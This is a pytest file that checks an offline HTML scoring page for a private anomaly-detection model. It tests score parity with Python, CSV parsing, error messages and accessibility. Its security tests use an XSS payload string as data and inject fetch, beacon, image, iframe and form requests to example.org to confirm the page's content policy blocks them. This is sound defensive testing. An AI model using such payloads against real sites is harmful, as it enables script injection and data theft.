"""The page of a private model: it scores as Python does, refuses as it does, and sends nothing."""

import csv
import io
import json
import os
import re
import shutil

import numpy as np
import pandas as pd
import pytest

import isinglass as ig
from isinglass import model
from isinglass.detect.private.columns import CategoryColumn, NumberColumn
from isinglass.detect.private.load import open_model
from isinglass.detect.private.log_edges import log_cells, log_edges
from isinglass.detect.private.projections import scaled
from isinglass.detect.private.table_records import table_records
from isinglass.detect.score_file import PrivateScorer, score_file
from isinglass.errors import TableError
from isinglass.plots import pages
from isinglass.signing import SigningKey
from isinglass.table.read import open_table

RNG = np.random.default_rng(0)
KEY = SigningKey.draw()
HOSTILE = '</script><img src=x onerror="hacked=1"><!--'
SETTINGS = {
    "bounds": {"load": (1e-3, 1e3), "x": (-9, 9), "n": (0, 8), "tiny": (0.1, 0.3), "flag": (0, 1)},
    "log": ["load", "tiny"],
    "steps": {"n": 1},
    "categories": {"fleet": ["A", "b c", HOSTILE], "crew": [2, 3.0, "4"], "on": [True, False]},
}


def table(n, wide=1.0):
    """Columns of all kinds."""
    return pd.DataFrame(
        {
            "fleet": RNG.choice(["A", "b c", HOSTILE, "D", ""], n),
            "load": RNG.lognormal(size=n) * wide,
            "x": RNG.normal(size=n) * wide,
            "crew": RNG.choice(["2", "3", "3.0", "4", " 2", "0_2", "4.0", "two"], n),
            "n": RNG.integers(-1, 10, n),
            "on": RNG.choice(["true", "False", "TRUE", "0", "yes"], n),
            "flag": RNG.choice(["true", "false", "1", "0"], n),
            "tiny": RNG.uniform(0.05, 0.4, n),
        }
    )


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """Signed models of two rounds, of one, and of many columns, with their pages."""
    made = tmp_path_factory.mktemp("pages")
    fitted = table(4000)
    for name in ("load", "x", "n", "tiny"):
        fitted[name] = fitted[name].astype(float)
    fitted["flag"] = RNG.choice([0.0, 1.0], 4000)
    for name, more in {"two": {"threshold_share": 0.1}, "one": {"rounds": 1}}.items():
        found = ig.PrivateDetector(**SETTINGS, **more).fit(fitted)
        found.save(made / f"{name}.zip", key=KEY)
    wide = ig.PrivateDetector(bounds=(-9, 9), delta=0, epsilon=3).fit(RNG.normal(size=(3000, 29)))
    wide.save(made / "wide.zip")
    for path in list(made.glob("*.zip")):
        entry = model.read(path).entries["score.html"]
        path.with_suffix(".html").write_bytes(entry)
    return made


@pytest.fixture(scope="module")
def browser():
    api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    names = ("chromium", "google-chrome", "chromium-browser")
    path = next(filter(None, map(shutil.which, names)), None)
    if path is None:
        pytest.skip(f"none of {', '.join(names)} is there to open the page in; see `make chromium`")
    root = hasattr(os, "getuid") and os.getuid() == 0
    with api.sync_playwright() as started:
        opened = started.chromium.launch(
            executable_path=path, args=["--no-sandbox"] if root else [], timeout=60_000
        )
        yield opened
        opened.close()


@pytest.fixture
def visit(browser, folder):
    """Opens a model's page; whatever it asked for besides, or complained about, is an error."""
    context = browser.new_context(viewport={"width": 1000, "height": 800})
    asked, said = [], []
    context.on("request", lambda request: asked.append(request.url))
    context.on("console", lambda message: said.append(message.text))
    context.on("weberror", lambda error: said.append(str(error.error)))
    pages = []

    def opened(name):
        pages.append(context.new_page())
        pages[-1].goto((folder / f"{name}.html").as_uri())
        return pages[-1]

    yield opened
    assert asked == [page.url for page in pages]
    assert said == []
    context.close()


def choose(page, data, name="new.csv"):
    """Give the page a file, and wait until it has an answer."""
    data = data if isinstance(data, bytes) else data.encode()
    before = page.evaluate("turn")
    page.set_input_files("#file", {"name": name, "mimeType": "text/csv", "buffer": data})
    answered = "at('progress').hidden && (!at('error').hidden || !at('results').hidden)"
    wait(page, f"turn > {before} && {answered}")
    return page.inner_text("#error")


def wait(page, condition):
    """Until a condition holds on the page; wait_for_function would evaluate a text there."""
    page.evaluate(
        f"async () => {{ while (!({condition})) await new Promise((r) => setTimeout(r)); }}"
    )


def scores_in(page):
    return evaluated(page, "Array.from(result.scores.slice(0, result.n))")


def evaluated(page, expression, given=None):
    """Numbers of the page, in a text, which travels faster than a list of them."""
    return np.array(json.loads(page.evaluate(f"(given) => JSON.stringify({expression})", given)))


def wanted(path, data, name="new.csv", most=10):
    """What `isinglass score` finds in the same bytes."""
    place = path.parent / name
    place.write_bytes(data if isinstance(data, bytes) else data.encode())
    _, document = open_model(path, unsigned=True)
    listed = []
    found = score_file(
        PrivateScorer(document), open_table(place), lambda first, scores: listed.append(scores),
        most=most, explain=True,
    )  # fmt: skip
    return np.concatenate(listed), found


# What the page is made of.


def test_the_page_has_one_script_which_its_policy_names_by_digest(folder):
    page = (folder / "two.html").read_text()
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', page)[1]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    (script,) = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    assert rules["script-src"] == f"'{pages.Verbatim(script).digest}'"
    for nothing in ("default-src", "connect-src", "form-action", "base-uri"):
        assert rules[nothing] == "'none'"
    assert page.count("<script") == 2
    assert not re.search(r"eval|innerHTML|fetch|XMLHttp|https?://|document\.write", page)
    assert KEY.signer.fingerprint in page
    assert "signed it: anybody may have made" in (folder / "wide.html").read_text()


def test_the_page_follows_from_the_model_alone(folder, tmp_path):
    loaded = ig.load_model(folder / "two.zip", unsigned=True)
    loaded.save(tmp_path / "two.zip", key=KEY)
    assert (tmp_path / "two.zip").read_bytes() == (folder / "two.zip").read_bytes()


def test_a_file_of_29_columns_stays_small_with_its_page(folder):
    assert (folder / "wide.zip").stat().st_size < 300_000
    assert (folder / "wide.html").stat().st_size < 150_000


def test_many_categories_are_counted_in_words_and_a_page_too_large_is_left_out(
    tmp_path, monkeypatch
):
    values = [f"v{i:04}" for i in range(2000)]
    found = ig.PrivateDetector(categories={"v": values}, epsilon=3).fit(
        pd.DataFrame({"v": RNG.choice(values[:3], 3000)})
    )
    found.save(tmp_path / "m.zip")
    page = model.read(tmp_path / "m.zip").entries["score.html"].decode()
    assert "v0049; 1,950 more; other" in page
    assert page.count("v0050") == page.count("v1999") == 1
    monkeypatch.setitem(model.ENTRIES, "score.html", len(page) - 1)
    found.save(tmp_path / "n.zip")
    assert "score.html" not in model.read(tmp_path / "n.zip").entries


def test_texts_in_data_cannot_leave_their_element():
    found = pages.data({"a": "</script><!-- & \u2028"})
    assert not set(found.text) & set("<>&\u2028")


# The same scores.


@pytest.mark.parametrize("name", ["two", "one"])
def test_the_page_scores_as_python_does_to_the_last_bit(visit, folder, name):
    new = table(2000, 4.0)
    new.loc[:40, "x"] = np.nan
    new.loc[20:60, "load"] = np.nan
    new.loc[61:70, "load"] = [
        -1,
        0,
        1e-3,
        1e3,
        1e9,
        -1e-300,
        5e-324,
        np.inf,
        -np.inf,
        1e-3 * 2**0.5,
    ]
    new.loc[61:70, "x"] = [-9, 9, -9.5, 9.5, -0.0, 1e300, np.inf, -np.inf, 1e-300, 4.5]
    new.insert(3, "other", 'a "quoted", one\nof two lines')
    data = new[new.columns[::-1]].to_csv(index=False)
    page = visit(name)
    assert choose(page, data) == ""
    scores, found = wanted(folder / f"{name}.zip", data)
    np.testing.assert_array_equal(scores_in(page), scores)
    assert page.inner_text("#status") == "Scored 2,000 records of new.csv."
    above = f"{found.above:,}\nabove the threshold" if found.above is not None else "2,000\nrecords"
    assert above in page.inner_text("#found")
    rows = page.locator("#strangest tr").all_inner_texts()
    assert len(rows) == 10
    for line, anomaly in zip(rows, found.anomalies, strict=True):
        cells = line.split("\t")
        assert cells[0] == f"row {anomaly.row:,}"
        assert float(cells[1]) == pytest.approx(anomaly.score, rel=1e-5)
        shares = page.evaluate(
            "row => { const r = result.strangest.find((s) => s.row === row);"
            " return sharesOf(MODEL, r.cells, r.codes, r.score); }",
            anomaly.row,
        )
        assert dict(shares) == pytest.approx(dict(anomaly.columns), rel=1e-9, abs=1e-12)
        assert cells[-1].startswith(f"{anomaly.columns[0][0]} ({100 * anomaly.columns[0][1]:.0f}")


def test_scaled_values_are_pythons_in_every_cell(visit):
    page = visit("two")
    cells = 2 * np.arange(1 << 16) + 1
    for middle, half in (
        (0, 8192),
        (33_554_432, 8193),
        (67_108_864, 1 << 25),
        (12_345_678, 98_765),
    ):
        expression = "Array.from({length: CELLS}, (_, g) => scaled(2 * g + 1, ...given))"
        found = evaluated(page, expression, [middle, half])
        np.testing.assert_array_equal(found, scaled(cells, middle, half))


@pytest.mark.parametrize(
    "bounds", [(1e-3, 1e3), (1.0, 65536.0), (0.1, 0.1 + 1e-12), (1e-300, 1e300)]
)
def test_logarithmic_cells_are_pythons_on_both_sides_of_every_edge(visit, bounds):
    edges = log_edges(*bounds).all[:: 1 << 8]
    values = np.concatenate([
        edges, np.nextafter(edges, 0), np.nextafter(edges, np.inf),
        bounds[0] * (bounds[1] / bounds[0]) ** RNG.uniform(size=300)
        if bounds[0] > 1e-9 else 10 ** RNG.uniform(-301, 301, 300),
        np.array([*bounds, -1.0, 0.0]),
    ])  # fmt: skip
    found = visit("two").evaluate(
        "([low, high, xs]) => { const grid = logGrid(low, high);"
        " return xs.map((x) => logCell(x, grid)); }",
        [*bounds, values.tolist()],
    )
    wanted = log_cells(values, *bounds) - 0.5
    np.testing.assert_array_equal(np.array(found), wanted)


@pytest.mark.parametrize("name", ["two", "one"])
def test_bins_of_projections_begin_where_pythons_do(visit, folder, name):
    bins = open_model(folder / f"{name}.zip", unsigned=True)[1].model.layout.bins
    begin = np.arange(bins.n + 1)[:, None] * bins.width - bins.shift
    values = (begin[..., None] + [-1, 0, 1]).transpose(1, 0, 2).reshape(len(bins.shift), -1)
    expression = "given.map((row, t) => row.map((v) => binOf(MODEL.bins, t, v)))"
    found = evaluated(visit(name), expression, values.tolist())
    places = (values + bins.shift[:, None]) // bins.width[:, None]
    np.testing.assert_array_equal(found, np.clip(places, 0, bins.n - 1))


FIELDS = (
    "1", "+1", " 1\t", "1.", "-.5", "1e5", "1E+5", "1e400", "-1e400", "1e-400", "0x10", "inf",
    "-INF", "+Infinity", "infinit", "nan", "NaN", "NAN", "-nan", "NA", " NA", "N/A", "null", "Null",
    "None", "", "  ", "1_000", "007", "-0", "1e", "e5", "-", "1 2", "\u0661", "\xa01", "1\x0b",
    "--1", "+-1", "1.5.2", "true", "TRUE", "tRUE", "1,5", "0.1000000000000000055511151231257827",
    "#N/A", "1f",
)  # fmt: skip


def test_a_field_is_the_number_and_the_category_that_python_reads(visit, tmp_path):
    values = [1, "inf", "NA", "x"]
    columns = [NumberColumn("a", -1.0, 1.0), CategoryColumn("b", tuple(values))]
    numbers, places = visit("two").evaluate(
        "([fields, values]) =>"
        " [fields.map((f) => String(numberIn(f))), fields.map(placer(values))]",
        [list(FIELDS), values],
    )
    for field, number, place in zip(FIELDS, numbers, places, strict=True):
        path = tmp_path / "f.csv"
        path.write_text(f'a,b\n0,x\n"{field}","{field}"\n')
        (part,) = table_records(open_table(path), columns)
        ours = float(number.replace("Infinity", "inf"))
        np.testing.assert_array_equal(part.numbers[1, 0], ours, err_msg=field)
        assert part.codes[1, 0] == place, field


# The same files.


def test_files_of_other_shapes_have_the_same_scores(visit, folder):
    new = table(60).astype(str)
    plain = new.to_csv(index=False)
    page = visit("two")
    assert choose(page, plain) == ""
    usual = scores_in(page)
    files = {
        "semicolon.csv": new.to_csv(index=False, sep=";"),
        "bars.txt": new.to_csv(index=False, sep="|"),
        "tabs.tsv": new.to_csv(index=False, sep="\t"),
        "windows.csv": plain.replace("\n", "\r\n"),
        "old.csv": plain.replace("\n", "\r"),
        "mark.csv": "\ufeff" + plain,
        "blank.csv": "\n" + plain.replace("\n", "\n\n"),
        "quoted.csv": new.to_csv(index=False, quoting=csv.QUOTE_ALL),
        "end.csv": plain.rstrip("\n"),
        "more.csv": new.assign(**{"é": "ü", "": "\U0001f600"}).to_csv(index=False),
    }
    for name, data in files.items():
        assert choose(page, data, name) == "", name
        np.testing.assert_array_equal(scores_in(page), usual, err_msg=name)
        scores, _ = wanted(folder / "two.zip", data, name)
        np.testing.assert_array_equal(scores, usual, err_msg=name)


def test_rows_are_the_same_wherever_a_piece_of_the_file_ends(visit):
    text = 'a,b\r\n"x""y","1\n2"\r\n\r\n,\n"",é"q"\r3,"4"5\n"""",'
    rows = [["a", "b"], ['x"y', "1\n2"], ["", ""], ["", 'é"q"'], ["3", "45"], ['"', ""]]
    assert [row for row in csv.reader(io.StringIO(text, newline="")) if row] == rows
    cut = [text[: len(text) // 2], text[len(text) // 2 :]]
    splits = [
        [text],
        cut,
        *([text[i : i + n] for i in range(0, len(text), n)] for n in (1, 2, 3, 5)),
    ]
    found = visit("two").evaluate(
        "splits => splits.map((pieces) => { const reader = new RowReader(',');"
        " return pieces.flatMap((p, i) => [...reader.rows(p, i === pieces.length - 1)]); })",
        splits,
    )
    assert found == [rows] * len(splits)


@pytest.mark.parametrize("before", [0, 1])
def test_a_character_may_lie_across_two_pieces_of_a_file(visit, before):
    page = visit("two")
    assert page.evaluate(
        "async (before) => { const text = 'a'.repeat(before) + '\\u00e9'.repeat(PIECE);"
        " let found = ''; for await (const piece of piecesOf(new Blob([text]))) found += piece;"
        " return found === text; }",
        before,
    )


HEADER = "fleet,load,x,crew,n,on,flag,tiny"
ROW = "A,1,2,3,4,true,1,0.2"


BROKEN = {
    "The file is empty.": "",
    "The file has a header but no rows.": f"{HEADER}\n",
    "The file lacks columns of the model: x.": f"{HEADER.replace(',x', '')}\n{ROW[:-4]}",
    "The file has more than one column named x.": f"{HEADER},x\n{ROW},1",
    "The file seems to have no header": f"{ROW}\n{ROW}",
    "Row 3 (the header is row 1) has 9 fields where the header has 8": f"{HEADER}\n{ROW}\n{ROW},9",
    "Column tiny holds no number at the beginning of the file.":
        f"{HEADER}\n{ROW.replace('0.2', 'secret')}",
    "decimals need a point, not a comma":
        f"{HEADER}\n{ROW}".replace(",", ";").replace("0.2", "0,2"),
    "a quotation mark is never closed": f'{HEADER}\n{ROW}\n"secret,1,2',
    "The file is not UTF-8 text; save it": f"{HEADER}\n{ROW}".encode() + b"\xff",
    "or use isinglass score with --encoding": f"{HEADER}\n{ROW}".encode("utf-16"),
    "reads plain CSV files; isinglass score reads Parquet": b"PAR1" + bytes(99),
    "and compressed files": b"\x1f\x8b" + bytes(99),
    "save the records as CSV": b"PK\x03\x04" + bytes(99),
}  # fmt: skip


def test_a_broken_file_is_one_sentence_without_its_values(visit, folder):
    page = visit("two")
    for said, data in BROKEN.items():
        assert said in choose(page, data)
        assert "secret" not in page.inner_text("body")
        assert not page.is_visible("#results")
        with pytest.raises(TableError):
            wanted(folder / "two.zip", data)
    assert choose(page, f"{HEADER}\n{ROW}") == ""  # the next file is scored all the same


# The page in use.


def test_all_scores_are_downloaded(visit, folder):
    data = table(300).to_csv(index=False)
    page = visit("one")
    choose(page, data, "my records.csv")
    with page.expect_download() as waiting:
        page.get_by_role("button", name="Download all scores as CSV").press("Enter")
    assert waiting.value.suggested_filename == "my records-scores.csv"
    header, *lines = waiting.value.path().read_text().splitlines()
    scores = wanted(folder / "one.zip", data)[0]
    assert header == "row,score"
    assert [line.split(",")[0] for line in lines] == [str(row) for row in range(300)]
    assert [float(line.split(",")[1]) for line in lines] == scores.tolist()


def test_as_many_of_the_strangest_are_shown_as_are_asked_for(visit, folder):
    data = table(3000).to_csv(index=False)
    page = visit("two")
    choose(page, data)
    for asked, shown in (("25", 25), ("0", 1), ("", 1), ("999999", 1000)):
        page.get_by_label("Show").fill(asked)
        assert page.locator("#strangest tr").count() == shown
    _, found = wanted(folder / "two.zip", data, most=1000)
    assert page.evaluate("result.strangest.map((r) => r.row)") == [a.row for a in found.anomalies]


def test_a_large_file_leaves_the_page_awake_and_a_newer_one_takes_its_place(visit):
    header = ",".join(map(str, range(29))) + "\n"
    rows = "".join(",".join(f"{x:.4f}" for x in row) + "\n" for row in RNG.normal(size=(500, 29)))
    page = visit("wide")
    page.evaluate(
        "([header, rows]) => { seen = new Set();"
        " setInterval(() => seen.add(at('progress').value), 1);"
        " large = new File([header, rows.repeat(35)], 'large.csv');"
        " small = new File([header, rows], 'small.csv'); openFile(large); }",
        [header, rows],
    )
    wait(page, "at('status').textContent === 'Scored 17,500 records of large.csv.'")
    assert page.evaluate("[large.size > 3 * PIECE, seen.size >= 3]") == [True, True]
    page.evaluate("() => { openFile(large); openFile(small); }")
    wait(page, "at('status').textContent === 'Scored 500 records of small.csv.'")
    page.wait_for_timeout(100)
    assert page.evaluate("[result.n, result.name, at('progress').hidden]") == [
        500,
        "small.csv",
        True,
    ]


def test_a_dropped_file_is_scored(visit):
    page = visit("two")
    page.evaluate(
        "text => { const held = new DataTransfer(); held.items.add(new File([text], 'd.csv'));"
        " document.body.dispatchEvent(new DragEvent('drop',"
        " {dataTransfer: held, bubbles: true, cancelable: true})); }",
        f"{HEADER}\n{ROW}\n",
    )
    wait(page, "at('status').textContent === 'Scored 1 record of d.csv.'")


@pytest.mark.parametrize("width", [390, 1200])
def test_nothing_scrolls_sideways_and_all_is_reached_by_keyboard(visit, folder, width):
    page = visit("two")
    page.set_viewport_size({"width": width, "height": 800})
    choose(page, table(50).to_csv(index=False), f"{'long' * 40}.csv")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    if where := os.environ.get("ISINGLASS_SCREENSHOTS"):
        page.screenshot(path=f"{where}/score-page-{width}.png", full_page=True)
    assert page.get_by_label("Choose a CSV file").get_attribute("id") == "file"
    reached = []
    page.evaluate("document.activeElement.blur()")
    for _ in range(4):
        page.keyboard.press("Tab")
        reached.append(page.evaluate("document.activeElement.id || document.activeElement.href"))
    assert reached[0] == "file"
    assert reached[2:] == ["most", "download"]


# Strangers' texts, and what the page may not do.


def test_hostile_names_and_values_are_shown_as_text(visit, browser, folder):
    name = f'{HOSTILE}"\u202e\x1b[31m'
    frame = pd.DataFrame({name: RNG.normal(size=3000), "kind": RNG.choice([HOSTILE, "b"], 3000)})
    found = ig.PrivateDetector(bounds={name: (-9, 9)}, categories={"kind": [HOSTILE]}).fit(frame)
    found.save(folder / "hostile.zip", name=HOSTILE)
    (folder / "hostile.html").write_bytes(model.read(folder / "hostile.zip").entries["score.html"])
    page = visit("hostile")
    assert choose(page, frame[:50].to_csv(index=False), f"{HOSTILE}.csv".replace("/", "")) == ""
    np.testing.assert_array_equal(scores_in(page), found.anomaly_score(frame[:50]))
    assert "no record leaves" in page.inner_text("body")
    assert "\\u{202e}" in page.inner_text("#strangest")
    assert "lacks columns" in choose(page, f"a,{HOSTILE.replace(',', '')}\n1,2\n")
    assert "more than one column named <img" in choose(page, "<img src=x>,<img src=x>\n1,2\n")
    assert page.evaluate("typeof hacked") == "undefined"
    assert page.evaluate("[...document.querySelectorAll('img, iframe, script')].length") == 2


def test_whatever_is_injected_may_neither_run_nor_send(browser, folder):
    context = browser.new_context()
    asked, stopped = [], []
    context.on("request", lambda request: asked.append(request.url))
    context.on("requestfailed", lambda request: stopped.append((request.url, request.failure)))
    page = context.new_page()
    page.goto((folder / "two.html").as_uri())
    wanted = ["connect-src", "img-src", "frame-src", "form-action", "require-trusted-types-for"]
    done = page.evaluate(
        """async (wanted) => {
          const violated = [];
          addEventListener("securitypolicyviolation", (e) => violated.push(e.effectiveDirective));
          const refused = async (work) => {
            try { await work(); return false; } catch { return true; }
          };
          const add = (kind, facts) => document.body.append(
            Object.assign(document.createElement(kind), facts));
          const found = {
            fetch: await refused(() => fetch("https://example.org/?x")),
            file: await refused(() => fetch(location.href)),
            markup: await refused(() => { document.body.innerHTML = "<b>x</b>"; }),
            script: await refused(() => add("script", { text: "hacked = 1" })),
            beacon: !navigator.sendBeacon("https://example.org/?x") || "by policy",
          };
          add("img", { src: "https://example.org/i.png" });
          add("iframe", { src: "https://example.org/" });
          const form = add("form", { action: "https://example.org/", method: "post" });
          document.forms[0].submit();
          const until = performance.now() + 30_000, heard = (rule) => violated.includes(rule);
          while (!wanted.every(heard) && performance.now() < until) {
            await new Promise((resolve) => setTimeout(resolve));
          }
          return { found, violated: [...new Set(violated)], hacked: typeof hacked };
        }""",
        wanted,
    )
    assert all(done["found"].values()), done
    assert done["hacked"] == "undefined"
    assert set(wanted) <= set(done["violated"])
    assert {why for _, why in stopped} == {"csp"}
    assert [url for url in asked if url not in dict(stopped)] == [page.url]
    context.close()
